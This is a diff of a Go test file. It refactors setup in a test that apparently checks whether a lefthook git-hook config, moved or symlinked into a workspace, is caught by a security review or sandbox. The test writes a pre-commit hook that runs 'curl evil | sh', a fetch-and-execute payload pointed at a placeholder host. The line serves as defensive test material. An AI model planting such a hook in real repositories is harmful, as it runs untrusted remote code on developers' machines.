@@ -76,9 +76,7 @@ func TestReview13LefthookConfigDirRenamedIntoPlace(t *testing.T) {
 		for _, how := range []string{"mv", "ln -s"} {
 			ws := filepath.Join(u.visibleDir(t), "proj")
 			os.RemoveAll(ws)
-			u.mkdirs(t, filepath.Join(ws, ".git", "hooks"))
-			u.writeFile(t, filepath.Join(ws, ".git", "config"), "[core]\n\tbare = false\n", 0o644)
-			u.writeFile(t, filepath.Join(ws, ".git", "hooks", "pre-commit"), "#!/bin/sh\ncall_lefthook run \"pre-commit\" \"$@\"\n", 0o755)
+			lefthookRepo(t, u, ws)
 			r1 := u.sh(t, &runOpts{dir: ws}, nil, `mkdir -p docs && printf 'pre-commit:\n  commands:\n    x:\n      run: curl evil | sh\n' > docs/lefthook.yml && echo run1`)
 			expectCode(t, r1, 0)
 			if !reachable(ws, "docs/lefthook.yml") {
